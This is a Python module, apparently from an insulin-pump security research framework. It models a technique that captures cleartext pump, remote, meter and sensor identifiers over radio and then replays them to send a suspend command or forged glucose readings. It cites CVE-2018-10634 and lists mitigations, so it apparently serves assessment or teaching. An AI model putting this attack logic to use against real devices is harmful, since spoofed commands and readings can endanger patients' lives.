"""Overhear an identifier: listen on the radio until a device has named itself.

Nothing is sent. Every packet of the family carries an identifier in clear; for the pump that is the
serial number, the only thing that guards its radio.
"""

from __future__ import annotations

from banting.attacks.aims import intent_for
from banting.attacks.conversation import do_by_radio
from banting.attacks.sources import CLEARTEXT, LETTER_2011, LI_2011
from banting.errors import TechniqueFailed
from banting.interfaces import Grip, Listen, Program, Transmit, Wait
from banting.schema.facts import Fact, Rule, goal_fact, position_fact
from banting.schema.question import Goal, Position
from banting.schema.verdict import TechniqueShown

__all__ = ["OVERHEAR", "Overhear"]

_SHOWN_MGDL = 333  # a value that no real reading of the day has
_NEAR = position_fact(Position.RADIO)
_ACCEPTED_BY = {  # secret -> the pump's own fact that makes it worth having
    "pump-serial": Fact("pump.obeys-serial"),
    "remote-id": Fact("pump.hears-remote"),
    "meter-id": Fact("pump.takes-meter"),
    "sensor-id": Fact("pump.takes-sensor"),
}


def _rules() -> tuple[Rule, ...]:
    learn = tuple(
        Rule(
            id=f"overhear-{secret}",
            technique="overhear-identifier",
            needs=frozenset({_NEAR, Fact(f"air.carries-{secret}")}),
            gives=Fact(f"knows.{secret}"),
            says=f"listen until the {secret.replace('-', ' ')} is sent in clear",
        )
        for secret in _ACCEPTED_BY
    )
    secret_in_hand = tuple(
        Rule(
            id=f"secret-{secret}",
            technique="overhear-identifier",
            needs=frozenset({_NEAR, Fact(f"air.carries-{secret}"), accepted}),
            gives=goal_fact(Goal.G10),
            says=f"the {secret.replace('-', ' ')} heard in clear is all the pump asks for",
        )
        for secret, accepted in _ACCEPTED_BY.items()
    )
    return learn + secret_in_hand


class Overhear:
    """Listen until a frame carries the identifier."""

    shown = TechniqueShown(
        id="overhear-identifier",
        title="Overhear an identifier",
        what="a receiver in range writes down the serial number or identifier that every packet "
        "carries in clear",
        stop_it="send nothing: leave the USB stick unused, and switch off remote, meter and sensor",
        cwe=("CWE-319",),
        cve=("CVE-2018-10634",),
        emb3d=("TID-408", "TID-411"),
        attack_ics=("T0887",),
        sources=(CLEARTEXT, LI_2011, LETTER_2011),
    )
    rules: tuple[Rule, ...] = _rules()

    def perform(self, rule: Rule, grip: Grip) -> Program:
        """Listen for the secret that the rule is about."""
        secret = rule.id.removeprefix("overhear-").removeprefix("secret-")
        while True:
            frame = yield Listen(link="radio", until_ms=grip.until_ms)
            if frame is None:
                raise TechniqueFailed(f"nothing on the air carried the {secret}")
            found = dict(grip.dialect.secrets_in(frame.raw)).get(secret)
            if found is not None:
                grip.learn(secret, found)
                break
        heard = f"heard the {secret} {found.hex()} in a frame of the {frame.sender}"
        if rule.gives == goal_fact(Goal.G10):
            yield Wait(until_ms=grip.strike_ms)
            yield from _use(secret, found, grip)
            return f"{heard}, and used it"
        return heard


def _use(secret: str, value: bytes, grip: Grip) -> Program:
    """Show that the pump takes the secret, with the least that shows it."""
    match secret:
        case "pump-serial":
            yield from do_by_radio(grip, intent_for(goal_fact(Goal.G4), grip))
        case "remote-id":
            yield Transmit(link="radio", exchange=grip.dialect.press(value, "suspend", 0))
        case "meter-id":
            reading = grip.dialect.meter_reading(value, _SHOWN_MGDL)
            yield Transmit(link="radio", exchange=reading)
        case _:
            reading = grip.dialect.sensor_reading(value, _SHOWN_MGDL, 0)
            yield Transmit(link="radio", exchange=reading)
    return "used"


OVERHEAR = Overhear()
